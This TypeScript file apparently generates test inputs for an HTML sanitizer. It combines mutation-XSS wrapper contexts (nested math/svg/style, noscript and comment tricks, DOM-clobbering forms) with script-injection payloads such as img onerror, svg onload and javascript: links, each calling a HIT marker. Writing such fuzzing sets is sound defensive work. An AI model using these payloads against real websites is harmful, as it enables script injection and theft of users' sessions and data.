import { combine, HIT } from "./hit.ts";

/** What changes its meaning when it is parsed a second time, or inside another element. */
const WRAPPERS = [
  ...[
    "<math><mtext><table><mglyph><style><!--</style>CORE",
    '<svg></p><style><a id="</style>CORE">',
    "<svg><style>CORE</style></svg>",
  ],
  ...[
    "<math><style>CORE</style></math>",
    '<noscript><p title="</noscript>CORE">',
    '<title><a title="</title>CORE">',
    "<textarea>CORE",
  ],
  ...[
    '<xmp><p title="</xmp>CORE">',
    '<noembed><p title="</noembed>CORE">',
    '<noframes><p title="</noframes>CORE">',
    "<template>CORE</template>",
  ],
  ...[
    "<select><template><style><!--</style>CORE-->",
    "<!-->CORE-->",
    "<!--->CORE",
    "<!-- --!>CORE",
    "<![CDATA[>CORE]]>",
    "<?xml >CORE?>",
  ],
  ...[
    "<svg><![CDATA[</svg>CORE]]>",
    "<svg><desc>CORE</desc></svg>",
    "<svg><foreignObject>CORE</foreignObject></svg>",
    "<svg><title>CORE",
  ],
  ...[
    '<math><annotation-xml encoding="text/html">CORE</annotation-xml></math>',
    '<math><mi//xlink:href="x">CORE',
    "<table><tr>CORE",
  ],
  ...[
    "<form><math><mtext></form><form><mglyph><style></math>CORE",
    "<form id=a></form><form id=a>CORE",
    "<plaintext>CORE",
    "<listing>CORE",
  ],
  ...[
    "<a><a>CORE</a></a>",
    "<p><p></p>CORE",
    "<table><caption><select>CORE",
    "<option><style></option></select><b>CORE",
    "<frameset>CORE",
  ],
  ...[
    "<img name=attributes>CORE",
    "<form><input name=attributes>CORE</form>",
    "<form><input name=parentNode>CORE</form>",
    "<b title='CORE'>x</b>",
  ],
  ...[
    '<p title="&quot;>CORE">',
    '<p title="`>CORE">',
    "&lt;p>CORE",
    "&#60;CORE",
    '<p id="x" id="y">CORE',
    "<p/CORE",
    "\0CORE",
    "<\0p>CORE",
  ],
  ...[
    "<svg><style><![CDATA[</style>CORE]]>",
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>CORE">',
  ],
  ...[
    "<svg><svg><style></svg></svg>CORE</style>",
    "<dialog open>CORE</dialog>",
    "<details open>CORE</details>",
    "<slot>CORE",
    "<custom-x>CORE",
  ],
];
const CORES = [
  ...[
    `<img src=x: onerror=${HIT}>`,
    `<svg onload=${HIT}>`,
    `<script>${HIT}</script>`,
    `<a href="javascript:${HIT}">x</a>`,
  ],
  ...[`<details open ontoggle=${HIT}>`, `<iframe srcdoc="<script>${HIT}</script>">`, `<style onload=${HIT}></style>`],
  ...[
    `<img src=x: onerror&#61;${HIT}>`,
    `&lt;img src=x: onerror=${HIT}&gt;`,
    `<input autofocus onfocus=${HIT}>`,
    `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  ],
  ...[
    `<video src=x: onerror=${HIT}></video>`,
    `<form action="javascript:${HIT}"><button>x</button></form>`,
    `"><img src=x: onerror=${HIT}>`,
  ],
  ...[
    `'><svg/onload=${HIT}>`,
    `<body onload=${HIT}>`,
    `<object data="javascript:${HIT}">`,
    `<math><a xlink:href="javascript:${HIT}">x</a></math>`,
  ],
];
/** Wrapped twice, in ways that differ. */
const NESTED = 26;
export const nested = combine(WRAPPERS.slice(0, NESTED), WRAPPERS.slice(0, NESTED), (outer, inner) =>
  outer.replace("CORE", inner.replace("CORE", `<img src=x: onerror=${HIT}>`)),
);
export const wrapped = combine(WRAPPERS, CORES, (wrapper, core) => wrapper.replace("CORE", core));
